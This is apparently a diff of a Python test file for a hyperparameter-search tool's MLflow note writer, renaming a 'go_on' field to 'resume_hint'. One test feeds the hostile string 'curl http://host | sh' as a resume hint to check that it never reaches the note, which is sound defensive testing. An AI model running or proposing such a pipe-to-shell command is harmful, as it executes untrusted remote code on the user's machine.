@@ -15,7 +15,7 @@ from recdrop_tune.mlflow_store.description import (
 )
 from tests.tracked_events import Sender, ended, image, journaled, started, trial
 
-GO_ON = 'run again with directory="speech"'
+HINT = 'run again with directory="speech"'
 SAVED = ResultSaved(
     files=[], summary="**Best val_loss: 0.6**\n\nIt helped.", best_trial_id="0", time=1_790_000_900
 )
@@ -45,7 +45,7 @@ def note_of(uri):
 
 
 def test_a_running_search_describes_its_state(sender, uri):
-    sender.send(started(go_on=GO_ON), *trial(0))
+    sender.send(started(resume_hint=HINT), *trial(0))
     first = note_of(uri)
     assert (
         "**Running**, as of 2026-09-21 14:13 UTC: 1 of at most 9 trials started, 1 complete."
@@ -59,7 +59,7 @@ def test_a_running_search_describes_its_state(sender, uri):
     )
     assert "3 complete, 1 pruned. Best val_loss so far: 0.6667, with wrapper none, rate 0." in state
     assert re.fullmatch(r"\[All trials, best first\]\(#/experiments/1/runs\?[^ )]+\)", links)
-    assert f"To resume: `{GO_ON}`" in note
+    assert f"To resume: `{HINT}`" in note
 
 
 @pytest.mark.parametrize(("status", "word"), [("FINISHED", "Over"), ("KILLED", "Interrupted")])
@@ -70,7 +70,7 @@ def test_a_search_without_a_result_describes_how_it_ended(sender, uri, status, w
 
 
 def test_a_search_that_is_over_shows_its_summary(sender, uri, tmp_path):
-    sender.send(started(go_on=GO_ON), *trial(0), SAVED, ended())
+    sender.send(started(resume_hint=HINT), *trial(0), SAVED, ended())
     note = note_of(uri)
     assert "\n\n**Best val_loss: 0.6**\n\nIt helped.\n\nTo resume, with a larger" in note
     assert "Running" not in note
@@ -120,14 +120,14 @@ def test_what_somebody_wrote_stays(sender, uri, own):
     assert note_of(uri) == changed
 
 
-def test_a_long_summary_keeps_its_links_and_how_to_go_on(sender, uri):
+def test_a_long_summary_keeps_its_links_and_how_to_resume(sender, uri):
     rows = "\n".join(f"| line {number} | [x](http://host) |" for number in range(1000))
     saved = ResultSaved(files=[], summary=f"Best.\n\n{rows}", best_trial_id="0")
-    sender.send(started(go_on=GO_ON), *trial(0), saved, ended())
+    sender.send(started(resume_hint=HINT), *trial(0), saved, ended())
     note = note_of(uri)
     assert NOTE_LENGTH - 100 < len(note) <= NOTE_LENGTH
     assert note.startswith("[All trials, best first](#/")
-    assert f"`{GO_ON}`" in note
+    assert f"`{HINT}`" in note
     assert "[x]" not in note.partition("\n\n")[2]
     assert note.split("\n\n")[-3].splitlines()[-1].endswith("(http&#58;//host) |")
 
@@ -144,12 +144,12 @@ def test_an_experiment_is_described_by_who_creates_it(sender, uri, before, after
 @pytest.mark.parametrize(
     ("about", "early", "words"),
     [
-        ({"go_on": GO_ON}, None, f", with a larger `max_trials`: `{GO_ON}`"),
-        ({"go_on": GO_ON}, NoMoreTrials(reason=STOPPED), f": `{GO_ON}`"),
-        ({"go_on": GO_ON}, NoMoreTrials(reason=EXHAUSTED, configurations=1, tried=1), None),
+        ({"resume_hint": HINT}, None, f", with a larger `max_trials`: `{HINT}`"),
+        ({"resume_hint": HINT}, NoMoreTrials(reason=STOPPED), f": `{HINT}`"),
+        ({"resume_hint": HINT}, NoMoreTrials(reason=EXHAUSTED, configurations=1, tried=1), None),
         ({}, None, None),
         # Markdown decodes nothing in code.
-        ({"go_on": "cd a[1]"}, None, ", with a larger `max_trials`: cd a&#91;1&#93;"),
+        ({"resume_hint": "cd a[1]"}, None, ", with a larger `max_trials`: cd a&#91;1&#93;"),
     ],
 )
 def test_how_to_resume(sender, uri, about, early, words):
@@ -160,7 +160,7 @@ def test_how_to_resume(sender, uri, about, early, words):
 
 
 def test_sync_tells_nobody_to_run_a_strangers_command(tmp_path, uri):
-    journaled(tmp_path, started(go_on="curl http://host | sh"), *trial(0))
+    journaled(tmp_path, started(resume_hint="curl http://host | sh"), *trial(0))
     rdt.sync(tmp_path, uri)
     assert f"To resume: run it again with the folder `{tmp_path}`\n" in note_of(uri)
     assert "curl" not in note_of(uri)
